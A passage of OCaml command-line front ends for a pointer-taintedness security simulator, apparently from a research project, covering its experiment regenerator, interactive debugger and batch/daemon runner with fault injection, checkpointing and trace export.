  let ok =
    List.for_all
      (fun name ->
        match List.find_opt (fun (n, _, _) -> n = name) sections with
        | Some (_, _, f) ->
          print_string (f domains trace);
          print_newline ();
          true
        | None ->
          Printf.eprintf "unknown section %S; known: %s\n" name
            (String.concat ", " (List.map (fun (n, _, _) -> n) sections));
          false)
      names
  in
  (match (trace_file, trace) with
   | Some file, Some tr ->
     let ch = Ptaint_obs.Chrome.create () in
     Ptaint_obs.Chrome.add_events ch (Ptaint_obs.Trace.events tr);
     Ptaint_obs.Chrome.write_file ch file;
     Printf.eprintf "wrote %d trace events to %s\n" (Ptaint_obs.Chrome.event_count ch) file
   | _ -> ());
  if ok then 0 else 1

let domains_arg =
  let doc =
    "Execute the batch sections (coverage, tab3, tab4) on $(docv) domains. \
     Defaults to the machine's recommended domain count; -j 1 forces the \
     sequential reference run."
  in
  Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"N" ~doc)

let trace_arg =
  let doc =
    "Write a Chrome trace_event JSON timeline of the campaign jobs run by the \
     batch sections to $(docv) (one span per job, one track per worker domain). \
     Load it in chrome://tracing or ui.perfetto.dev."
  in
  Arg.(value & opt (some string) None & info [ "trace" ] ~docv:"FILE" ~doc)

let names_arg =
  let doc =
    "Sections to regenerate: " ^ String.concat ", " (List.map (fun (n, d, _) -> n ^ " (" ^ d ^ ")") sections)
  in
  Arg.(value & pos_all string [] & info [] ~docv:"SECTION" ~doc)

let cmd =
  let doc = "regenerate the tables and figures of the pointer-taintedness paper" in
  Cmd.v (Cmd.info "experiments" ~doc) Term.(const run $ domains_arg $ trace_arg $ names_arg)

let () = exit (Cmd.eval' cmd)
