(* Interactive debugger for guest programs on the pointer-taintedness
   architecture.

   Example:
     ptaint-dbg victim.c --stdin-data "$(printf 'aaaa')"
     (ptaint) b main
     (ptaint) c
     (ptaint) s 10
     (ptaint) taint
*)

open Cmdliner

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let run path policy_name stdin_data sessions args =
  let policy =
    match policy_name with
    | "control-only" | "minos" -> Ptaint_cpu.Policy.control_only
    | "none" | "unprotected" -> Ptaint_cpu.Policy.unprotected
    | _ -> Ptaint_cpu.Policy.default
  in
  try
    let source = read_file path in
    let program =
      if Filename.check_suffix path ".s" then Ptaint_asm.Assembler.assemble_exn source
      else Ptaint_runtime.Runtime.compile source
    in
    let config =
      Ptaint_sim.Sim.Config.(
        default |> with_policy policy |> with_stdin stdin_data
        |> with_sessions (List.map (fun s -> [ s ]) sessions)
        |> with_argv (Filename.basename path :: args))
    in
    let dbg = Ptaint_sim.Debugger.create (Ptaint_sim.Sim.boot ~config program) in
    print_endline "ptaint debugger — 'help' for commands";
    let rec repl () =
      print_string "(ptaint) ";
      flush stdout;
      match In_channel.input_line stdin with
      | None -> 0
      | Some line -> (
        let output, next = Ptaint_sim.Debugger.exec dbg line in
        print_string output;
        match next with `Quit -> 0 | `Continue -> repl ())
    in
    repl ()
  with
  | Ptaint_cc.Cc.Error { line; message; phase } ->
    Printf.eprintf "%s:%d: %s error: %s\n" path line phase message;
    2
  | Sys_error e ->
    prerr_endline e;
    2

let path_arg = Arg.(required & pos 0 (some file) None & info [] ~docv:"PROGRAM")

let policy_arg =
  Arg.(value & opt string "full" & info [ "policy"; "p" ] ~docv:"POLICY"
         ~doc:"Protection policy: full, control-only, or none.")

let stdin_arg =
  Arg.(value & opt string "" & info [ "stdin-data" ] ~docv:"DATA" ~doc:"Guest standard input.")

let session_arg =
  Arg.(value & opt_all string [] & info [ "session" ] ~docv:"MSG"
         ~doc:"Scripted network session (repeatable).")

let args_arg =
  Arg.(value & opt_all string [] & info [ "arg" ] ~docv:"ARG" ~doc:"Guest argv entry (repeatable).")

let cmd =
  let doc = "interactively debug a guest program on the pointer-taintedness architecture" in
  Cmd.v (Cmd.info "ptaint-dbg" ~doc)
    Term.(const run $ path_arg $ policy_arg $ stdin_arg $ session_arg $ args_arg)

let () = exit (Cmd.eval' cmd)
