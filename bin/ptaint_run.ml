(* Run guest programs (Mini-C `.c`/`.mc` or SIMIPS assembly `.s`)
   under the pointer-taintedness architecture.

   Examples:
     ptaint-run victim.c --stdin-data "$(python exploit.py)"
     ptaint-run server.c --session "GET / HTTP/1.0" --policy control-only
     ptaint-run prog.s --policy none --trace-insns
     ptaint-run victim.c --trace out.json     # Chrome/Perfetto timeline
     ptaint-run -j 4 a.c b.c c.c d.c          # batch on 4 domains
*)

open Cmdliner
module Campaign = Ptaint_campaign.Campaign
module Checkpoint = Ptaint_campaign.Checkpoint
module Job = Ptaint_campaign.Job
module Gen = Ptaint_gen.Gen
module Fi = Ptaint_fi.Fi
module Proto = Ptaint_daemon.Proto
module Client = Ptaint_daemon.Client
module Log = Ptaint_obs.Log

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

(* Per-instruction trace: pc, disassembly, and the source-register
   values (with taint masks) the instruction is about to read. *)
let tracer limit =
  let count = ref 0 in
  fun (m : Ptaint_cpu.Machine.t) insn ->
    if !count < limit then begin
      incr count;
      let reads =
        Ptaint_isa.Insn.reads insn
        |> List.filter (fun r -> r <> 0)
        |> List.sort_uniq compare
        |> List.map (fun r ->
               Format.asprintf "%a=%a" Ptaint_isa.Reg.pp r Ptaint_taint.Tword.pp
                 (Ptaint_cpu.Regfile.get m.Ptaint_cpu.Machine.regs r))
        |> String.concat " "
      in
      Printf.eprintf "  %08x: %-28s %s\n" m.Ptaint_cpu.Machine.pc
        (Ptaint_isa.Insn.to_string insn) reads
    end
    else if !count = limit then begin
      incr count;
      Printf.eprintf "  ... trace truncated after %d instructions\n" limit
    end

exception Guest_error of string

let load_program path =
  let source = read_file path in
  try
    if Filename.check_suffix path ".s" then Ptaint_asm.Assembler.assemble_exn source
    else Ptaint_runtime.Runtime.compile source
  with Ptaint_cc.Cc.Error { line; message; phase } ->
    raise (Guest_error (Printf.sprintf "%s:%d: %s error: %s" path line phase message))

let exit_code_of (r : Ptaint_sim.Sim.result) =
  match r.Ptaint_sim.Sim.outcome with
  | Ptaint_sim.Sim.Exited c -> c
  | Ptaint_sim.Sim.Alert _ -> 3
  | _ -> 4

let write_chrome ch file =
  Ptaint_obs.Chrome.write_file ch file;
  Printf.eprintf "wrote %d trace events to %s\n" (Ptaint_obs.Chrome.event_count ch) file

(* Single-program mode: full guest output, diagnostics on alert, and
   the session's structured events exported on request.  Observation
   is always on here — one interactive run never notices the cost. *)
let run_one path config disasm trace_file metrics plan job_timeout =
  let program = load_program path in
  if disasm then print_string (Ptaint_asm.Program.disassemble program);
  let deadline = Option.map (fun s -> Unix.gettimeofday () +. s) job_timeout in
  let r =
    if plan = [] then Ptaint_sim.Sim.run ?deadline ~config program
    else begin
      let report = Fi.run_plan ~config ?deadline ~plan program in
      List.iter
        (fun (a : Fi.applied) ->
          Format.eprintf "fault %s: %a@."
            (if a.Fi.ok then "injected" else "missed")
            Fi.pp_injection a.Fi.injection)
        report.Fi.applied;
      (if Ptaint_sim.Sim.detected report.Fi.result then
         match
           List.filter_map (fun (a : Fi.applied) ->
               if a.Fi.ok then Some a.Fi.injection.Fi.at else None)
             report.Fi.applied
         with
         | [] -> ()
         | ats ->
           let first = List.fold_left min max_int ats in
           Format.eprintf "detection latency: %d instructions after first injection@."
             (report.Fi.result.Ptaint_sim.Sim.instructions - first));
      report.Fi.result
    end
  in
  print_string r.Ptaint_sim.Sim.stdout;
  List.iteri
    (fun i m -> Printf.printf "[net reply %d] %s\n" (i + 1) (String.escaped m))
    r.Ptaint_sim.Sim.net_sent;
  Format.printf "--- %a (%s instructions%s)@."
    Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome
    (string_of_int r.Ptaint_sim.Sim.instructions)
    (match r.Ptaint_sim.Sim.cycles with
     | Some c -> Printf.sprintf ", %d cycles" c
     | None -> "");
  (match r.Ptaint_sim.Sim.outcome with
   | Ptaint_sim.Sim.Alert _ | Ptaint_sim.Sim.Fault _ ->
     print_string (Ptaint_sim.Diagnostics.report r)
   | _ -> ());
  if metrics then begin
    let ms = Ptaint_mem.Memory.stats r.Ptaint_sim.Sim.machine.Ptaint_cpu.Machine.mem in
    (* Single-run mode attaches the obs trace for alert diagnostics,
       which drives the per-step engine — the translation tier only
       engages on untraced runs (batch mode, the daemon), so show its
       counters only when it actually ran. *)
    let sb =
      let cs =
        Ptaint_cpu.Machine.superblock_counters r.Ptaint_sim.Sim.machine
      in
      if List.exists (fun (_, n) -> n > 0) cs then
        List.map (fun (event, n) -> ("run/superblock-" ^ event, n)) cs
      else []
    in
    print_string
      (Ptaint_report.Report.counters
         ([ ("run/loads", ms.Ptaint_mem.Memory.loads);
            ("run/tainted-loads", ms.Ptaint_mem.Memory.tainted_loads);
            ("run/stores", ms.Ptaint_mem.Memory.stores);
            ("run/tainted-stores", ms.Ptaint_mem.Memory.tainted_stores);
            ("run/syscalls", r.Ptaint_sim.Sim.syscalls) ]
         @ sb))
  end;
  (match trace_file with
   | Some file ->
     let ch = Ptaint_obs.Chrome.create () in
     (* one span for the whole run (1 guest cycle = 1 µs), then the
        cycle-stamped point events on the same track *)
     Ptaint_obs.Chrome.complete ch ~name:(Filename.basename path) ~cat:"run" ~tid:0
       ~ts_us:0. ~dur_us:(float_of_int r.Ptaint_sim.Sim.instructions) ();
     Ptaint_obs.Chrome.add_events ch (Ptaint_sim.Sim.events r);
     write_chrome ch file
   | None -> ());
  exit_code_of r

(* Client-seeded correlation id: one 63-bit trace id per invocation,
   one span id per submitted job.  Wall-clock xor pid seeding is fine
   here — the id only needs to be distinct across invocations, never
   reproducible. *)
let fresh_trace_id () =
  let us = int_of_float (Unix.gettimeofday () *. 1e6) in
  Fi.Rng.next (Fi.Rng.create (us lxor (Unix.getpid () * 0x1e3779b97f4a7c15)))

let trace_log_fields = function
  | None -> []
  | Some (tid, span) -> [ Log.str "trace" (Log.hex_id tid); Log.int "span" span ]

(* --watch: a refreshing one-line health summary on stderr.  Counts
   are absolute (a resumed campaign starts at its cursor), elapsed
   includes prior runs' checkpointed wall time, and the ETA is the
   remaining jobs over the cumulative rate. *)
type watch = {
  w_total : int;
  mutable w_done : int;
  mutable w_alerts : int;
  mutable w_failed : int;
  w_prior : float;  (* seconds from earlier runs of this campaign *)
  w_t0 : float;
  mutable w_last : float;
}

let watch_create ?(prior_us = 0) ~total () =
  { w_total = total; w_done = 0; w_alerts = 0; w_failed = 0;
    w_prior = float_of_int prior_us /. 1e6;
    w_t0 = Unix.gettimeofday (); w_last = 0. }

let fmt_duration s =
  if s >= 3600. then Printf.sprintf "%dh%02dm" (int_of_float s / 3600) (int_of_float s mod 3600 / 60)
  else if s >= 60. then Printf.sprintf "%dm%02ds" (int_of_float s / 60) (int_of_float s mod 60)
  else Printf.sprintf "%.0fs" s

let watch_paint ?(force = false) w =
  let now = Unix.gettimeofday () in
  if force || now -. w.w_last >= 0.5 then begin
    w.w_last <- now;
    let elapsed = now -. w.w_t0 +. w.w_prior in
    let rate = if elapsed > 0. then float_of_int w.w_done /. elapsed else 0. in
    let eta =
      if rate > 0. && w.w_done < w.w_total then
        " eta " ^ fmt_duration (float_of_int (w.w_total - w.w_done) /. rate)
      else ""
    in
    Printf.eprintf "\r%3d%% %d/%d jobs  %.0f jobs/s  alerts %d  failed %d  elapsed %s%s \x1b[K%!"
      (if w.w_total > 0 then 100 * w.w_done / w.w_total else 100)
      w.w_done w.w_total rate w.w_alerts w.w_failed (fmt_duration elapsed) eta
  end

let watch_close w =
  watch_paint ~force:true w;
  prerr_newline ()

(* A file path becomes the symbolic payload of a unified Job.t: the
   campaign engine (or the daemon) owns the build, so a malformed
   source is a classified per-job failure, never a CLI crash. *)
let payload_of path =
  let source = read_file path in
  if Filename.check_suffix path ".s" then Job.Asm_source source else Job.C_source source

let job_of path config timeout =
  Job.make ~tag:path
    ~config:{ config with Ptaint_sim.Sim.argv = [ Filename.basename path ] }
    ?timeout (payload_of path)

(* Batch mode: each program becomes one campaign job on the domain
   pool; one summary line per program, in command-line order. *)
let run_batch paths config domains trace_file metrics timings job_timeout log =
  let jobs = List.map (fun path -> job_of path config None) paths in
  let trace = Option.map (fun _ -> Ptaint_obs.Trace.create ()) trace_file in
  let results, stats = Campaign.run_jobs ?domains ?trace ?log ?job_timeout jobs in
  let code =
    List.fold_left
      (fun acc (jr : Campaign.job_result) ->
        match jr.Campaign.status with
        | Campaign.Finished r ->
          Format.printf "%-32s %a (%d instructions, %d syscalls)@." jr.Campaign.name
            Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome
            r.Ptaint_sim.Sim.instructions r.Ptaint_sim.Sim.syscalls;
          max acc (exit_code_of r)
        | Campaign.Failed f ->
          Format.printf "%-32s job failed (%s): %s@." jr.Campaign.name
            (Campaign.kind_name f.Campaign.kind) f.Campaign.exn;
          max acc 4)
      0 results
  in
  if metrics then print_string (Campaign.metrics_table ~timings stats);
  (match (trace_file, trace) with
   | Some file, Some tr ->
     let ch = Ptaint_obs.Chrome.create () in
     Ptaint_obs.Chrome.add_events ch (Ptaint_obs.Trace.events tr);
     write_chrome ch file
   | _ -> ());
  code

(* Reduce a daemon outcome to the same compact summary the local
   streaming path produces.  The daemon streams no alert pc, so site
   coverage is a local-mode refinement; counters — the byte-parity
   contract with batch mode — carry over exactly. *)
let summary_of_outcome i tag (o : Client.outcome) =
  let short outcome =
    if String.length outcome >= 14 && String.sub outcome 0 14 = "SECURITY ALERT" then "alert"
    else if String.length outcome >= 6 && String.sub outcome 0 6 = "exited" then "exited"
    else if String.length outcome >= 5 && String.sub outcome 0 5 = "fault" then "fault"
    else if String.length outcome >= 10 && String.sub outcome 0 10 = "break trap" then "trap"
    else "out-of-fuel"
  in
  match o with
  | Client.Done (Proto.Finished f) ->
    { Campaign.s_index = i;
      s_name = f.tag;
      s_label = f.policy_label;
      s_outcome = short f.outcome;
      s_counters = f.counters;
      s_failed = false;
      s_violation = false;
      s_detected = short f.outcome = "alert";
      s_alert_pc = None;
      s_instructions = f.instructions;
      s_syscalls = f.syscalls;
      s_attempts = 1;
      s_trace = f.trace }
  | Client.Done (Proto.Job_failed f) ->
    { Campaign.s_index = i;
      s_name = f.tag;
      s_label = f.policy_label;
      s_outcome = f.kind;
      s_counters = f.counters;
      s_failed = true;
      s_violation = false;
      s_detected = false;
      s_alert_pc = None;
      s_instructions = 0;
      s_syscalls = 0;
      s_attempts = 1;
      s_trace = f.trace }
  | Client.Done (Proto.Started _) | Client.Refused _ ->
    { Campaign.s_index = i;
      s_name = tag;
      s_label = "unlabelled";
      s_outcome = "rejected";
      s_counters = [ ("jobs", 1); ("rejected", 1) ];
      s_failed = true;
      s_violation = false;
      s_detected = false;
      s_alert_pc = None;
      s_instructions = 0;
      s_syscalls = 0;
      s_attempts = 1;
      s_trace = None }

(* --connect mode: the same jobs go to a ptaintd instance instead of
   an in-process pool.  Output parity with run_batch is deliberate:
   per-job lines are printed in submission order from the streamed
   terminal events, and --metrics rebuilds the per-policy registries
   by merging each job's streamed counter deltas — byte-identical to
   the batch runner's counters-only table. *)
let run_connect sock paths policy_name stdin_data sessions args metrics job_timeout
    trace_file results_path log watch =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let trace_id = fresh_trace_id () in
  let spec_of i path =
    let payload =
      let source = read_file path in
      if Filename.check_suffix path ".s" then Proto.Wire_asm source else Proto.Wire_c source
    in
    Proto.job_spec ~tag:path ~policy:policy_name
      ~argv:(Filename.basename path :: args)
      ~stdin:stdin_data
      ~sessions:(List.map (fun s -> [ s ]) sessions)
      ?timeout:job_timeout
      ~trace:(trace_id, i + 1) payload
  in
  let specs = List.mapi spec_of paths in
  (match log with
   | Some l ->
     Log.info l ~src:"ptaint-run" "batch submitted"
       [ Log.str "socket" sock; Log.int "jobs" (List.length specs);
         Log.str "trace" (Log.hex_id trace_id) ]
   | None -> ());
  let c = Client.connect ~client:"ptaint-run" sock in
  (* Client-side spans for the cross-process timeline: Started..terminal
     wall time per job id, pid 1 (the daemon writes pid 2), absolute
     epoch-microsecond timestamps so the two traces merge unaligned. *)
  let started : (int, float) Hashtbl.t = Hashtbl.create 16 in
  let spans = ref [] in
  let w = if watch then Some (watch_create ~total:(List.length specs) ()) else None in
  let observe ev =
    let now = Unix.gettimeofday () in
    (match ev with
     | Proto.Started { id } -> Hashtbl.replace started id now
     | Proto.Finished { id; tag; outcome; trace; _ } ->
       let t0 = Option.value ~default:now (Hashtbl.find_opt started id) in
       spans := (tag, "finished:" ^ outcome, trace, t0, now) :: !spans;
       (match log with
        | Some l ->
          Log.info l ~src:"ptaint-run" "job finished"
            (Log.str "tag" tag :: Log.str "outcome" outcome
             :: Log.float "ms" ((now -. t0) *. 1e3) :: trace_log_fields trace)
        | None -> ());
       (match w with
        | Some w ->
          w.w_done <- w.w_done + 1;
          if String.length outcome >= 14 && String.sub outcome 0 14 = "SECURITY ALERT" then
            w.w_alerts <- w.w_alerts + 1;
          watch_paint w
        | None -> ())
     | Proto.Job_failed { id; tag; kind; message; trace; _ } ->
       let t0 = Option.value ~default:now (Hashtbl.find_opt started id) in
       spans := (tag, "failed:" ^ kind, trace, t0, now) :: !spans;
       (match log with
        | Some l ->
          Log.warn l ~src:"ptaint-run" "job failed"
            (Log.str "tag" tag :: Log.str "kind" kind :: Log.str "message" message
             :: trace_log_fields trace)
        | None -> ());
       (match w with
        | Some w ->
          w.w_done <- w.w_done + 1;
          w.w_failed <- w.w_failed + 1;
          watch_paint w
        | None -> ()))
  in
  let outcomes = Client.run_batch ~on_event:observe c specs in
  Client.close c;
  (match w with Some w -> watch_close w | None -> ());
  (match trace_file with
   | Some file ->
     let ch = Ptaint_obs.Chrome.create () in
     List.iter
       (fun (tag, outcome, trace, t0, t1) ->
         let targs =
           ("outcome", outcome)
           :: (match trace with
               | None -> []
               | Some (tid, span) ->
                 [ ("trace", Log.hex_id tid); ("span", string_of_int span) ])
         in
         Ptaint_obs.Chrome.complete ch ~name:tag ~cat:"client" ~pid:1 ~tid:0
           ~ts_us:(t0 *. 1e6) ~dur_us:((t1 -. t0) *. 1e6) ~args:targs ())
       (List.rev !spans);
     write_chrome ch file
   | None -> ());
  (match results_path with
   | Some rp ->
     let oc = open_out_bin rp in
     List.iteri
       (fun i (path, o) ->
         output_string oc (Campaign.jsonl_of_summary (summary_of_outcome i path o));
         output_char oc '\n')
       (List.combine paths outcomes);
     close_out oc
   | None -> ());
  let module M = Ptaint_obs.Metrics in
  let regs = ref [] in
  let registry label =
    match List.assoc_opt label !regs with
    | Some m -> m
    | None ->
      let m = M.create () in
      regs := !regs @ [ (label, m) ];
      m
  in
  let merge label counters =
    let m = registry label in
    List.iter (fun (name, by) -> M.inc ~by (M.counter m name)) counters
  in
  let code =
    List.fold_left2
      (fun acc path outcome ->
        match outcome with
        | Client.Done (Proto.Finished f) ->
          if List.length paths = 1 then print_string f.stdout;
          Format.printf "%-32s %s (%d instructions, %d syscalls)@." path f.outcome
            f.instructions f.syscalls;
          merge f.policy_label f.counters;
          max acc f.exit_code
        | Client.Done (Proto.Job_failed f) ->
          Format.printf "%-32s job failed (%s): %s@." path f.kind f.message;
          merge f.policy_label f.counters;
          max acc 4
        | Client.Done (Proto.Started _) -> acc
        | Client.Refused reason ->
          Format.printf "%-32s rejected: %s@." path reason;
          max acc 2)
      0 paths outcomes
  in
  if metrics then print_string (Campaign.metrics_table_of !regs);
  code

let print_daemon_stats sock metrics =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let c = Client.connect ~client:"ptaint-run" sock in
  let counters = Client.stats c in
  let full = if metrics then Some (Client.stats_full c) else None in
  Client.close c;
  print_string (Ptaint_report.Report.counters counters);
  (match full with Some text -> print_string text | None -> ());
  0

(* --- generative campaigns: --generate N [--checkpoint M] ------------- *)

(* Load the manifest (if any) and reconcile the JSONL sink with its
   cursor.  A fresh start clears a stale sink so line counts always
   equal job counts. *)
let checkpoint_resume ~campaign_id ~total checkpoint results_path =
  match checkpoint with
  | Some path when Sys.file_exists path -> (
    match Checkpoint.load ~path with
    | Error e -> Error (Printf.sprintf "checkpoint %s: %s" path e)
    | Ok m ->
      if m.Checkpoint.id <> campaign_id then
        Error
          (Printf.sprintf
             "checkpoint %s belongs to a different campaign\n  manifest:  %s\n  requested: %s"
             path m.Checkpoint.id campaign_id)
      else if m.Checkpoint.cursor > total then
        Error (Printf.sprintf "checkpoint %s: cursor %d beyond %d jobs" path
                 m.Checkpoint.cursor total)
      else (
        match results_path with
        | Some rp -> (
          match Checkpoint.truncate_jsonl ~path:rp ~lines:m.Checkpoint.cursor with
          | Ok () ->
            Ok (m.Checkpoint.cursor, Campaign.load_tally m.Checkpoint.dump,
                m.Checkpoint.elapsed_us)
          | Error e -> Error e)
        | None ->
          Ok (m.Checkpoint.cursor, Campaign.load_tally m.Checkpoint.dump,
              m.Checkpoint.elapsed_us)))
  | _ ->
    (match results_path with
     | Some rp -> ignore (Checkpoint.truncate_jsonl ~path:rp ~lines:0)
     | None -> ());
    Ok (0, Campaign.tally (), 0)

let print_gen_summary ~metrics ~total ~cursor ~wall tally =
  let stats = Campaign.tally_stats ~wall_seconds:wall tally in
  Format.printf "generative campaign: %d/%d jobs, %d distinct detection sites@." cursor
    total
    (List.length (Campaign.tally_sites tally));
  Format.printf "%a@." Campaign.pp_stats stats;
  if metrics then print_string (Campaign.metrics_table stats)

(* Local streaming path: jobs pulled lazily from the generator, run on
   the arena-recycling pool, folded into the incremental tally;
   memory stays O(window) at any job count. *)
let run_generate_local spec domains metrics checkpoint every results_path job_timeout
    log watch =
  let total = Gen.jobs_of spec in
  let campaign_id = Gen.id spec in
  match checkpoint_resume ~campaign_id ~total checkpoint results_path with
  | Error e ->
    prerr_endline e;
    2
  | Ok (start, tally, prior_us) ->
    if start > 0 then Printf.eprintf "resuming at job %d/%d\n%!" start total;
    if start >= total then begin
      (* completed campaign: the manifest holds every counter, so the
         final report reprints without re-running anything *)
      print_gen_summary ~metrics ~total ~cursor:start ~wall:0. tally;
      0
    end
    else begin
      let sink =
        Option.map
          (fun rp -> open_out_gen [ Open_wronly; Open_creat; Open_append ] 0o644 rp)
          results_path
      in
      let t0 = Unix.gettimeofday () in
      let elapsed_now () =
        prior_us + int_of_float ((Unix.gettimeofday () -. t0) *. 1e6)
      in
      let w =
        if watch then Some (watch_create ~prior_us ~total ()) else None
      in
      let last_ckpt = ref start in
      let save_ckpt cursor tally =
        match checkpoint with
        | None -> ()
        | Some path ->
          (* the sink must be on disk before the manifest points past
             its lines — resume truncates any overshoot *)
          (match sink with Some oc -> flush oc | None -> ());
          (* a failed checkpoint costs freshness, not the campaign:
             the previous manifest is still valid, so warn and keep
             running without advancing the checkpoint cursor *)
          match
            Checkpoint.save ~path
              { Checkpoint.id = campaign_id; total; cursor;
                elapsed_us = elapsed_now ();
                dump = Campaign.dump_tally tally }
          with
          | () ->
            last_ckpt := cursor;
            (match log with
             | Some l ->
               Log.info l ~src:"campaign" "checkpoint written"
                 [ Log.str "path" path; Log.int "cursor" cursor;
                   Log.int "elapsed_us" (elapsed_now ()) ]
             | None -> ())
          | exception Checkpoint.Checkpoint_write_error { path; reason } ->
            Printf.eprintf "warning: checkpoint %s not written: %s\n%!" path reason;
            (match log with
             | Some l ->
               Log.warn l ~src:"campaign" "checkpoint write failed"
                 [ Log.str "path" path; Log.str "reason" reason;
                   Log.int "cursor" cursor ]
             | None -> ())
      in
      let tally, cursor =
        Campaign.run_stream ?domains ?log ?job_timeout ~start ~tally
          ?on_result:
            (Option.map
               (fun oc (s : Campaign.job_summary) ->
                 output_string oc (Campaign.jsonl_of_summary s);
                 output_char oc '\n')
               sink)
          ~on_progress:(fun ~cursor t ->
            (match w with
             | Some w when Unix.gettimeofday () -. w.w_last >= 0.5 ->
               w.w_done <- cursor;
               let stats = Campaign.tally_stats t in
               w.w_failed <- stats.Campaign.failed;
               w.w_alerts <-
                 List.fold_left (fun acc (_, n) -> acc + n) 0
                   stats.Campaign.detections;
               watch_paint w
             | _ -> ());
            if cursor - !last_ckpt >= every then save_ckpt cursor t)
          (Gen.jobs_from spec start)
      in
      let wall = Unix.gettimeofday () -. t0 in
      save_ckpt cursor tally;
      (match w with
       | Some w ->
         w.w_done <- cursor;
         let stats = Campaign.tally_stats tally in
         w.w_failed <- stats.Campaign.failed;
         w.w_alerts <-
           List.fold_left (fun acc (_, n) -> acc + n) 0 stats.Campaign.detections;
         watch_close w
       | None -> ());
      (match sink with Some oc -> close_out oc | None -> ());
      print_gen_summary ~metrics ~total ~cursor ~wall tally;
      if cursor = total then 0 else 4
    end

let wire_spec_of gspec i =
  let j = Gen.job gspec i in
  let cfg = j.Job.config in
  let payload =
    match j.Job.payload with
    | Job.C_source s -> Proto.Wire_c s
    | Job.Asm_source s -> Proto.Wire_asm s
    | Job.Image _ -> invalid_arg "generated jobs are always symbolic"
  in
  (* Campaign id + index is a natural idempotency key: a resubmit
     after a dropped connection attaches to the original admission
     instead of running (and counting) the job twice. *)
  Proto.job_spec ~tag:j.Job.tag
    ~policy:(Gen.policy_label gspec i)
    ~argv:cfg.Ptaint_sim.Sim.argv ~env:cfg.Ptaint_sim.Sim.env
    ~stdin:cfg.Ptaint_sim.Sim.stdin ?timeout:j.Job.timeout
    ~idem:(Printf.sprintf "%s#%d" (Gen.id gspec) i)
    payload

(* Daemon path: the generated stream goes to ptaintd in windows, with
   the same client-side manifest as the local path — kill this client
   at any point and rerunning the command resumes from the last
   window boundary; the daemon's image cache plays the role of the
   local template cache. *)
let run_generate_connect sock spec metrics checkpoint every results_path job_timeout
    log watch =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let total = Gen.jobs_of spec in
  let campaign_id = Gen.id spec in
  match checkpoint_resume ~campaign_id ~total checkpoint results_path with
  | Error e ->
    prerr_endline e;
    2
  | Ok (start, tally, prior_us) ->
    if start > 0 then Printf.eprintf "resuming at job %d/%d\n%!" start total;
    if start >= total then begin
      print_gen_summary ~metrics ~total ~cursor:start ~wall:0. tally;
      0
    end
    else begin
      let sink =
        Option.map
          (fun rp -> open_out_gen [ Open_wronly; Open_creat; Open_append ] 0o644 rp)
          results_path
      in
      let c = Client.connect ~client:"ptaint-run" ~retries:5 sock in
      let window = 64 in
      (* Admission bounces (per-client quota, server-wide queue) are
         backpressure, not job outcomes: resubmit until the daemon
         accepts.  "Draining" and malformed specs are terminal. *)
      let transient reason =
        let has needle =
          let n = String.length needle and l = String.length reason in
          let rec go i = i + n <= l && (String.sub reason i n = needle || go (i + 1)) in
          go 0
        in
        has "quota exceeded" || has "queue full"
      in
      let run_window specs =
        let specs = Array.of_list specs in
        let outcomes = Array.of_list (Client.run_batch c (Array.to_list specs)) in
        let rec settle () =
          let pending = ref [] in
          Array.iteri
            (fun k o ->
              match o with
              | Client.Refused reason when transient reason -> pending := k :: !pending
              | _ -> ())
            outcomes;
          match List.rev !pending with
          | [] -> ()
          | ks ->
            (* if nothing was accepted this pass, the queue is full of
               other clients' work — back off before resubmitting *)
            if List.length ks = Array.length specs then Unix.sleepf 0.05;
            let again = Client.run_batch c (List.map (fun k -> specs.(k)) ks) in
            List.iter2 (fun k o -> outcomes.(k) <- o) ks again;
            settle ()
        in
        settle ();
        Array.to_list outcomes
      in
      let cursor = ref start in
      let last_ckpt = ref start in
      let t0 = Unix.gettimeofday () in
      let elapsed_now () =
        prior_us + int_of_float ((Unix.gettimeofday () -. t0) *. 1e6)
      in
      let w = if watch then Some (watch_create ~prior_us ~total ()) else None in
      let save_ckpt () =
        match checkpoint with
        | None -> ()
        | Some path ->
          (match sink with Some oc -> flush oc | None -> ());
          match
            Checkpoint.save ~path
              { Checkpoint.id = campaign_id; total; cursor = !cursor;
                elapsed_us = elapsed_now ();
                dump = Campaign.dump_tally tally }
          with
          | () ->
            last_ckpt := !cursor;
            (match log with
             | Some l ->
               Log.info l ~src:"campaign" "checkpoint written"
                 [ Log.str "path" path; Log.int "cursor" !cursor;
                   Log.int "elapsed_us" (elapsed_now ()) ]
             | None -> ())
          | exception Checkpoint.Checkpoint_write_error { path; reason } ->
            Printf.eprintf "warning: checkpoint %s not written: %s\n%!" path reason;
            (match log with
             | Some l ->
               Log.warn l ~src:"campaign" "checkpoint write failed"
                 [ Log.str "path" path; Log.str "reason" reason;
                   Log.int "cursor" !cursor ]
             | None -> ())
      in
      while !cursor < total do
        let n = min window (total - !cursor) in
        let specs = List.init n (fun k -> wire_spec_of spec (!cursor + k)) in
        let outcomes = run_window specs in
        List.iteri
          (fun k o ->
            let i = !cursor + k in
            let s = summary_of_outcome i (List.nth specs k).Proto.spec_tag o in
            Campaign.tally_add tally s;
            (match log with
             | Some l when s.Campaign.s_failed ->
               Log.warn l ~src:"campaign" "job failed"
                 (Log.int "index" s.Campaign.s_index
                  :: Log.str "tag" s.Campaign.s_name
                  :: Log.str "kind" s.Campaign.s_outcome
                  :: trace_log_fields s.Campaign.s_trace)
             | _ -> ());
            (match w with
             | Some w ->
               if s.Campaign.s_failed then w.w_failed <- w.w_failed + 1;
               if s.Campaign.s_detected then w.w_alerts <- w.w_alerts + 1
             | None -> ());
            match sink with
            | Some oc ->
              output_string oc (Campaign.jsonl_of_summary s);
              output_char oc '\n'
            | None -> ())
          outcomes;
        cursor := !cursor + n;
        (match w with
         | Some w ->
           w.w_done <- !cursor;
           watch_paint w
         | None -> ());
        if !cursor - !last_ckpt >= every || !cursor = total then save_ckpt ()
      done;
      Client.close c;
      (match w with Some w -> watch_close w | None -> ());
      (match sink with Some oc -> close_out oc | None -> ());
      print_gen_summary ~metrics ~total ~cursor:!cursor
